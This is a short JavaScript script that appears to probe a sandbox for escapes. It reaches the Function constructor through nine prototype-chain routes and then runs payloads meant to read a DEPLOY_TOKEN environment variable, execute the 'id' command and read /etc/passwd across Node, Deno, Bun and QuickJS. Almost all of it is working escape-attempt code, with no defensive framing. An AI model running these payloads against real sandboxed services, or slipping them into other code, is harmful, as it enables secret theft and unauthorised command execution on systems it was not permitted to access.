const attempt = (name, act) => {
  try { console.log(`${name}: ${String(act())}`); } catch (error) { console.log(`${name}: ${error?.name}`); }
};

const PAYLOADS = [
  "return process.env.DEPLOY_TOKEN",
  "return process.mainModule.require('child_process').execSync('id')",
  "return require('fs').readFileSync('/etc/passwd', 'utf8')",
  "return globalThis.process",
  "return process.binding('fs')",
  "return module.constructor._load('fs')",
  "return Deno.readTextFileSync('/etc/passwd')",
  "return Bun.file('/etc/passwd')",
  "return std.loadFile('/etc/passwd')",
  "return os.exec(['id'])",
];
const DOORS = {
  array: [].constructor.constructor,
  text: "".at.constructor,
  arrow: (() => {}).constructor,
  console: console.log.constructor,
  fetch: fetch.constructor,
  error: new Error().constructor.constructor,
  promise: Promise.resolve.constructor,
  proxy: new Proxy(function () {}, {}).constructor,
  getter: Object.getOwnPropertyDescriptor(RegExp.prototype, "flags").get.constructor,
};
for (const [door, Make] of Object.entries(DOORS)) {
  console.log(door, Make === Function);
}
for (const payload of PAYLOADS) attempt(payload, () => Function(payload)());
